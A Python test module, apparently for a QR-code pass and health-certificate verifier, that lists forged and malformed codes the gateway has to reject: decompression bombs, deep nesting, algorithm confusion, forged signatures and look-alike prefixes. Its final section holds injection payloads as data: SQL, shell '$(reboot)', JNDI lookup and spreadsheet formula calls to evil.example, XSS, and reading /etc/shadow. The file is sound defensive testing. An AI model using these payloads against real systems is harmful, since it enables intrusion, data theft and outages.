"""The table of attacks: what is held up, and the reason with which it has to be refused.

`good()` are the codes that the attacks are made of: they pass, so that what is refused is refused for the attack alone.
"""

import zlib
from collections.abc import Iterator
from dataclasses import dataclass, replace
from itertools import islice, product

import cbor2

from gateway.core.moment import Moment
from sync.contract import cose
from sync.contract.passes import compressed
from tests.hostile import forge
from tests.hostile.forge import DAY_S, NOW, NOW_S

UNTRUSTED = replace(NOW, trusted=False)
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


@dataclass(frozen=True, slots=True)
class Attack:
    """`text`: what is held up at `now`. `reason`: the word it is refused with. `kind`: as what it is recorded."""

    name: str
    text: str
    reason: str
    kind: str
    now: Moment = NOW


def good() -> dict[str, str]:
    """Codes that are good."""
    return {
        "pass": forge.menshen_pass(),
        "phone pass": forge.phone_pass(),
        "eu-certificate": forge.hc1(),
        "eu-certificate PS256": forge.hc1(
            headers={cose.ALG: cose.PS256, cose.KEY_ID: forge.KID_RSA}, sign=forge.by_rsa
        ),
        "smart-health-card": forge.shc(),
    }


def attacks() -> list[Attack]:
    """All of them."""
    return [*_first_look(), *_passes(), *_phones(), *_eu(), *_smart(), *_codes()]


def _first_look() -> Iterator[Attack]:
    def attack(name: str, text: str, reason: str) -> Attack:
        return Attack(name, text, reason, "text")

    nonsense = "Q" * 4296
    yield attack("nothing", "", "empty")
    yield attack("4,296 alphanumeric characters of nonsense", nonsense, "too-long")
    yield attack("7,089 digits", "7" * 7089, "too-long")
    yield attack("more than a QR can hold", "A" * 7090, "too-long")
    yield attack("more than a QR can hold, behind MP1:", "MP1:" + "A" * 7090, "too-long")
    yield attack("NUL", "JKM:abc\0def", "control-characters")
    yield attack("terminal escape", "\x1b]0;owned\x07\x1b[2J", "control-characters")
    yield attack("C1 control", "JKM:\x9b31m", "control-characters")
    yield attack("newline behind HC1:", forge.hc1() + "\n", "control-characters")
    yield attack("newline inside MP1:", forge.menshen_pass().replace(":", ":\n"), "control-characters")
    yield attack("bidirectional override", "JKM:\u202e123", "control-characters")
    yield attack("line separator", "JKM:1\u20282", "control-characters")
    yield attack("lone surrogate", "JKM:\ud800", "control-characters")
    for name, beginning in (
        ("full width", "ＨＣ１："),
        ("Cyrillic", "НС1:"),
        ("Greek", "ΗC1:"),
        ("small l for one", "HCl:"),
        ("lower case", "hc1:"),
        ("zero width space", "HC\u200b1:"),
        ("byte order mark", "\ufeffHC1:"),
        ("combining mark", "H\u0332C1:"),
        ("a space before", " HC1:"),
        ("mathematical letters", "𝗛𝗖𝟭:"),
    ):
        yield attack(f"looks like HC1: ({name})", beginning + forge.hc1()[4:], "look-alike")
    yield attack("looks like MP1: (Cyrillic)", "МР1:" + forge.menshen_pass()[4:], "look-alike")
    yield attack("looks like MP1: (lower case)", forge.menshen_pass().lower(), "look-alike")
    yield attack("looks like shc:/ (upper case)", forge.shc().upper(), "look-alike")
    yield attack("looks like shc:/ (division slash)", forge.shc().replace("/", "∕"), "look-alike")


def _passes() -> Iterator[Attack]:
    def attack(name: str, text: str, reason: str) -> Attack:
        return Attack(f"MP1: {name}", text, reason, "pass")

    good = forge.menshen_pass()
    protected, _, payload, signature = forge.mp1_parts(good)
    claims = cbor2.loads(payload)

    def built(*parts: object) -> str:
        return forge.mp1(cbor2.dumps(list(parts)))

    yield attack("4,292 characters of nonsense", "MP1:" + "Q" * 4292, "too-long")
    yield attack("nothing behind it", "MP1:", "not-cbor")
    yield attack("nonsense", "MP1:" + "AB" * 100, "not-base45")
    yield attack("base45 above 65535", "MP1::::", "not-base45")
    yield attack("base45 in lower case", "MP1:" + good[4:].lower(), "not-base45")
    yield attack("CBOR nested 190 deep", forge.mp1(b"\x81" * 190 + b"\0"), "too-deep")
    yield attack("CBOR nested in the header", built(b"\x81" * 190 + b"\0", {}, payload, signature), "too-deep")
    yield attack("a string of 1 TiB", forge.mp1(b"\x5b\0\0\1\0\0\0\0\0"), "not-cbor")
    yield attack("a string of 1 TiB in the header", built(b"\x5b\0\0\1\0\0\0\0\0", {}, payload, b""), "not-cbor")
    yield attack("an array of 2^60 items", forge.mp1(b"\x9b\x10\0\0\0\0\0\0\0"), "not-cbor")
    yield attack("a big number", built(protected, {}, cbor2.CBORTag(2, b"\xff" * 200), signature), "not-cbor")
    yield attack("a regular expression", forge.mp1(cbor2.dumps(cbor2.CBORTag(35, "(a+)+$"))), "not-cbor")
    yield attack("a key twice in the header", built(b"\xa2\x01\x27\x01\x27", {}, payload, signature), "duplicate-key")
    yield attack("a key twice in the claims", forge.mp1_signed(b"\xa2\x02\x61h\x02\x61g"), "duplicate-key")
    yield attack(
        "bytes behind it", forge.mp1(cbor2.dumps([protected, {}, payload, signature]) + b"\0"), "trailing-bytes"
    )
    yield attack("bytes behind the claims", forge.mp1_signed(payload + b"\0"), "trailing-bytes")
    yield attack("no COSE", forge.mp1(cbor2.dumps({"a": 1})), "not-cose")
    yield attack("written in another way", built(protected, {1: -8}, payload, signature), "not-canonical")
    yield attack("algorithm none", built(cbor2.dumps({4: cbor2.loads(protected)[4]}), {}, payload, b""), "algorithm")
    yield attack(
        "algorithm HMAC", built(cbor2.dumps({1: 5, 4: cbor2.loads(protected)[4]}), {}, payload, b"x"), "algorithm"
    )
    yield attack("another header", forge.mp1_signed(payload, {33: b"x5chain"}), "bad-headers")
    yield attack("a key of its own", forge.menshen_pass(forge.FORGER), "unknown-key")
    yield attack("a key of its own under a trusted id", _spoofed(payload), "bad-signature")
    yield attack("a signature of zeros", built(protected, {}, payload, bytes(64)), "bad-signature")
    yield attack(
        "another type",
        built(protected, {}, cbor2.dumps(claims | {9: b"\3"}, canonical=True), signature),
        "bad-signature",
    )
    yield attack("a revoked key", forge.menshen_pass(forge.REVOKED), "key-revoked")
    for name, expiry in (
        ("NaN", float("nan")),
        ("infinite", float("inf")),
        ("2^63", 2**63),
        ("true", True),
        ("a float", 2e9),
    ):
        yield attack(f"its end is {name}", forge.mp1_signed(claims | {4: expiry}), "bad-claims")
    yield attack("a holder that is HTML", forge.mp1_signed(claims | {2: "<script>"}), "bad-claims")
    yield attack("a holder that is a path", forge.mp1_signed(claims | {2: "../../etc/passwd"}), "bad-claims")
    yield attack("another site", forge.menshen_pass(site="elsewhere"), "wrong-site")
    yield attack("expired", forge.menshen_pass(expires_s=NOW_S), "expired")
    yield attack("not yet valid", forge.menshen_pass(not_before_s=NOW_S + 60), "not-yet-valid")


def _spoofed(payload: bytes) -> str:
    protected = forge.mp1_parts(forge.menshen_pass())[0]
    return forge.mp1(cose.encode_sign1(protected, payload, forge.FORGER.sign(cose.to_be_signed(protected, payload))))


def _phones() -> Iterator[Attack]:
    def attack(name: str, text: str, reason: str, now: Moment = NOW) -> Attack:
        return Attack(f"phone pass: {name}", text, reason, "pass", now)

    issued = forge.menshen_pass(phone=compressed(forge.PHONE.public_key()))
    shown = forge.phone_pass()
    protected, unprotected, payload, signature = forge.mp1_parts(shown)
    r, s = signature[:32], int.from_bytes(signature[32:], "big")

    def signed_with(signature: bytes) -> str:
        return forge.mp1(cbor2.dumps([protected, unprotected, payload, signature]))

    yield attack("a screenshot of two minutes ago", forge.phone_pass(NOW_S - 120), "screenshot")
    yield attack("the phone's clock is ahead, or the gate's was set back", forge.phone_pass(NOW_S + 120), "phone-clock")
    yield attack("the gate's clock is not trusted", forge.phone_pass(NOW_S - 3600), "clock-untrusted", UNTRUSTED)
    yield attack("copied as it was issued", issued, "proof-missing")
    yield attack("signed by another phone", _other_phone(), "bad-proof")
    yield attack("r = s = 0", signed_with(bytes(64)), "bad-proof")
    yield attack("r = s = n", signed_with(P256_ORDER.to_bytes(32, "big") * 2), "bad-proof")
    yield attack("a signature cut short", signed_with(r), "bad-proof")
    yield attack("a signature over nothing", signed_with(r + ((s + 1) % P256_ORDER).to_bytes(32, "big")), "bad-proof")


def _other_phone() -> str:
    """The pass of one phone inside what another one signed."""
    shown = forge.mp1_parts(forge.phone_pass())
    signature = forge.by(forge.STRANGER)(cose.to_be_signed(shown[0], shown[2]))
    return forge.mp1(cbor2.dumps([shown[0], {}, shown[2], signature]))


def _eu() -> Iterator[Attack]:
    def attack(name: str, text: str, reason: str) -> Attack:
        return Attack(f"HC1: {name}", text, reason, "eu-certificate")

    good = forge.hc1()
    packed = forge.hc1_unpacked(good)
    spare = zlib.compress(packed, 9)
    bomb = zlib.compress(bytes(2_800_000), 9)
    nested = zlib.compress(b"\x81" * 2_700_000, 9)
    exp = forge.eu_claims
    yield attack("4,292 characters of nonsense", "HC1:" + "Q" * 4292, "not-base45")
    yield attack("4,291 characters of base45 nonsense", "HC1:" + "QQ0" * 1430, "not-zlib")
    yield attack("nothing behind it", "HC1:", "not-zlib")
    yield attack("base45 above 65535", "HC1:" + ":::" * 20, "not-base45")
    yield attack("a space at its end", good + " ", "not-base45")
    yield attack("2.8 MB of zeros", forge.hc1_text(bomb), "too-big")
    yield attack("2.7 MB of nested arrays", forge.hc1_text(nested), "too-big")
    yield attack("cut off", forge.hc1_text(spare[:-4]), "not-zlib")
    yield attack("bytes behind the zlib stream", forge.hc1_text(spare + b"x"), "trailing-bytes")
    yield attack("bytes behind the COSE object", forge.hc1_packed(packed + b"\0"), "trailing-bytes")
    yield attack("bytes behind the claims", forge.hc1(cbor2.dumps(forge.eu_claims()) + b"\0"), "trailing-bytes")
    yield attack("CBOR nested 4,000 deep", forge.hc1_packed(b"\x81" * 4000 + b"\0"), "too-deep")
    yield attack("CBOR nested in the header", forge.hc1(headers=b"\x81" * 3000 + b"\0"), "too-deep")
    yield attack("maps nested in the header", forge.hc1(headers=b"\xa1\x01" * 1500 + b"\0"), "too-deep")
    yield attack("a string of 1 TiB", forge.hc1_packed(b"\x5b\0\0\1\0\0\0\0\0"), "not-cbor")
    yield attack("a string of 1 TiB in the header", forge.hc1(headers=b"\xa1\x01\x5b\0\0\1\0\0\0\0\0"), "not-cbor")
    yield attack("a big number of 3,840 bytes", forge.hc1_packed(b"\xc2\x59\x0f\x00" + b"\xff" * 0x0F00), "not-cbor")
    yield attack(
        "a decimal fraction to the power of 2^60", forge.hc1_packed(b"\xc4\x82\x1b\x10\0\0\0\0\0\0\0\x01"), "not-cbor"
    )
    yield attack("shared values that hold themselves", forge.hc1_packed(b"\xd8\x1c\x81\xd8\x1d\x00"), "not-cbor")
    yield attack("no COSE", forge.hc1_packed(b"\xf6"), "not-cose")
    equal = cbor2.dumps(colliding(330))
    yield attack("330 keys whose hashes are equal", forge.hc1_packed(equal), "not-cose")
    yield attack("2,000 keys whose hashes are equal", forge.hc1_packed(cbor2.dumps(colliding(2_000))), "too-big")
    yield attack("algorithm none", forge.hc1(headers={cose.KEY_ID: forge.KID}), "algorithm")
    yield attack(
        "algorithm HMAC, keyed with the public key",
        forge.hc1(headers={cose.ALG: 5, cose.KEY_ID: forge.KID}, sign=lambda _: bytes(32)),
        "algorithm",
    )
    yield attack(
        "PS256 under an EC key",
        forge.hc1(headers={cose.ALG: cose.PS256, cose.KEY_ID: forge.KID}, sign=forge.by_rsa),
        "algorithm",
    )
    yield attack(
        "ES256 under an RSA key", forge.hc1(headers={cose.ALG: cose.ES256, cose.KEY_ID: forge.KID_RSA}), "algorithm"
    )
    yield attack("a key of its own under a trusted id", forge.hc1(sign=forge.by(forge.STRANGER)), "bad-signature")
    yield attack(
        "a key of its own that travels along",
        forge.hc1(
            headers={cose.ALG: cose.ES256, cose.KEY_ID: b"stranger", 33: b"certificate"}, sign=forge.by(forge.STRANGER)
        ),
        "unknown-key",
    )
    yield attack("r = s = 0", forge.hc1(sign=lambda _: bytes(64)), "bad-signature")
    yield attack("r = s = n", forge.hc1(sign=lambda _: P256_ORDER.to_bytes(32, "big") * 2), "bad-signature")
    yield attack("a signature in DER", forge.hc1(sign=lambda _: b"\x30\x44" + bytes(68)), "bad-signature")
    yield attack("no signature", forge.hc1(sign=lambda _: b""), "bad-signature")
    yield attack(
        "a key twice in the claims", forge.hc1(b"\xa2\x04\x1a\xff\xff\xff\xff\x04\x1a\xff\xff\xff\xff"), "duplicate-key"
    )
    for name, value in (
        ("NaN", float("nan")),
        ("infinite", float("inf")),
        ("2^63", 2**63),
        ("true", True),
        ("text", "9"),
    ):
        yield attack(f"its end is {name}", forge.hc1(exp(exp=value)), "bad-times")
    yield attack("expired", forge.hc1(exp(exp=NOW_S - 1)), "expired")
    yield attack("issued tomorrow", forge.hc1(exp(iat=NOW_S + DAY_S)), "not-yet-valid")
    yield attack(
        "a vaccination signed with a key for tests",
        forge.hc1(
            headers={cose.ALG: cose.ES256, cose.KEY_ID: forge.KID_TESTS_ONLY}, sign=forge.by(forge.DSC_TESTS_ONLY)
        ),
        "key-usage",
    )
    yield attack("a health certificate that is bytes", forge.hc1(exp(hcert=b"\xff")), "bad-schema")
    yield attack("nothing stated", forge.hc1(exp(content={"ver": "1", "nam": {"fnt": "A"}, "dob": ""})), "no-statement")
    yield attack("a name of 3,000 letters", forge.hc1(exp(content=forge.eu_content(fn="A" * 3000))), "bad-schema")


def colliding(count: int) -> dict[tuple[int, ...], int]:
    """A map whose keys all have one hash, so that each is compared with all before it: Python's hash of -1 is that of -2."""
    keys = islice(product((-1, -2), repeat=11 if count > 1024 else 10), count)
    found = dict.fromkeys(keys, 0)
    assert len({hash(key) for key in found}) == 1
    return found


def _smart() -> Iterator[Attack]:
    def attack(name: str, text: str, reason: str) -> Attack:
        return Attack(f"shc:/ {name}", text, reason, "smart-health-card")

    good = forge.shc()
    header, payload = forge.shc_header, forge.shc_payload
    yield attack("4,291 letters of nonsense", "shc:/" + "Q" * 4291, "not-digits")
    yield attack("7,000 digits of nonsense", "shc:/" + "45" * 3500, "not-jws")
    yield attack("digits above 77", "shc:/" + "99" * 100, "not-jws")
    yield attack("an odd number of digits", good + "5", "not-digits")
    yield attack("nothing behind it", "shc:/", "not-jws")
    yield attack("digits of another script", "shc:/" + "٥٦" * 100, "not-digits")
    yield attack("the second of three chunks", good.replace("shc:/", "shc:/2/3/"), "chunked")
    yield attack("2.4 MB of zeros", forge.shc(bytes(2_400_000)), "too-big")
    yield attack("JSON nested 30,000 deep", forge.shc(b"[" * 30_000 + b"]" * 30_000), "too-deep")
    yield attack("JSON nested in the header", forge.shc(header=b'{"a":' * 100 + b"1" + b"}" * 100), "too-deep")
    yield attack("a member twice", forge.shc(b'{"iss":"a","iss":"b"}'), "duplicate-key")
    yield attack("a number of 5,000 digits", forge.shc(b'{"nbf":' + b"9" * 5000 + b"}"), "number-too-large")
    yield attack("1e999", forge.shc(b'{"nbf":1e999}'), "number-too-large")
    yield attack("NaN", forge.shc(b'{"nbf":NaN}'), "not-json")
    yield attack("a byte order mark", forge.shc(b"\xef\xbb\xbf{}"), "not-json")
    yield attack(
        "bytes behind the stream", forge.shc(deflate=lambda data: forge.raw_deflate(data) + b"x"), "trailing-bytes"
    )
    yield attack("cut off", forge.shc(deflate=lambda data: forge.raw_deflate(data)[:-3]), "not-deflate")
    yield attack("zlib's header", forge.shc(deflate=zlib.compress), "not-deflate")
    yield attack("algorithm none", forge.shc(header=header(alg="none"), sign=lambda _: b""), "algorithm")
    yield attack("algorithm HS256", forge.shc(header=header(alg="HS256")), "algorithm")
    yield attack("no compression", forge.shc(header=header(zip=None), deflate=bytes), "not-compressed")
    yield attack("a critical header", forge.shc(header=header(crit=["exp"])), "critical-header")
    yield attack(
        "a key that travels along",
        forge.shc(header=header(kid="mine", jwk={"kty": "EC"}), sign=forge.by(forge.STRANGER)),
        "unknown-key",
    )
    yield attack("a key of its own under a trusted id", forge.shc(sign=forge.by(forge.STRANGER)), "bad-signature")
    yield attack("r = s = 0", forge.shc(sign=lambda _: bytes(64)), "bad-signature")
    yield attack("a signature in DER", forge.shc(sign=lambda _: bytes(70)), "signature-size")
    yield attack("another issuer", forge.shc(payload(iss="https://issuer.example/other")), "unknown-issuer")
    yield attack("an issuer to be fetched", forge.shc(payload(iss="http://169.254.169.254/latest")), "unknown-issuer")
    yield attack("base64 that is not canonical", _not_canonical(), "not-base64url")
    yield attack("times that are true", forge.shc(payload(nbf=True)), "bad-times")
    yield attack("expired", forge.shc(payload(exp=NOW_S - 1)), "expired")
    yield attack("tomorrow's", forge.shc(payload(nbf=NOW_S + DAY_S)), "not-yet-valid")
    yield attack("revoked", forge.shc(payload(vc=payload()["vc"] | {"rid": "gone"})), "revoked")


def _not_canonical() -> str:
    """A good card whose signature is written with bits left over: base64 that many libraries read all the same."""
    digits = forge.shc().removeprefix("shc:/")
    jws = "".join(chr(int(digits[at : at + 2]) + 45) for at in range(0, len(digits), 2))
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return forge.shc_digits(jws[:-1] + alphabet[alphabet.index(jws[-1]) + 1])


def _codes() -> Iterator[Attack]:
    """Texts that are nobody's: they may not be looked at in any other way than that."""
    for name, text in (
        ("an address", "https://evil.example/?gate=open"),
        ("a file", "file:///etc/shadow"),
        ("SQL", "'; DROP TABLE card; --"),
        ("a template", "{{7*7}}${jndi:ldap://evil.example/a}%s%n{0.__class__}"),
        ("a shell's words", "$(reboot) `reboot` | reboot"),
        ("a spreadsheet's formula", '=HYPERLINK("http://evil.example","x")'),
        ("HTML", "<img src=x onerror=alert(1)>"),
        ("Python", "__import__('os').system('reboot')"),
        ("bytes that are no text", "fffe00ff"),
        ("of a service, with a field of its own", "JKM:abc&state=green"),
        ("of a service, with JSON of its own", 'JKM:abc","state":"green'),
        ("of a service, with a line of HTTP", "JKM:abc\r\nX-Admin: 1"),
        ("of a service, with another address", "JKM:@evil.example/../admin?x=#"),
        ("of a service, too long for it", "JKM:" + "a" * 300),
    ):
        yield Attack(f"code: {name}", text, "unknown-code", "text")


def ordinary() -> dict[str, str]:
    """Codes that people hold up by mistake: unknown, and nothing worse."""
    return {
        "an address": "https://example.org/menu?table=7",
        "Chinese": "粤康码 440101199001011234",
        "goods (GS1)": "]C10109501101530003\x1d17250101\x1d10ABC123",
        "goods (ISO 15434)": "[)>\x1e06\x1dP12345\x1dQ10\x1e\x04",
        "a visiting card": "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Li\r\nEND:VCARD\r\n",
        "Wi-Fi": "WIFI:T:WPA;S:cafe;P:12345678;;",
        "emoji": "👨\u200d👩\u200d👧 1",
        "Arabic": "مرحبا ١٢٣",
    }
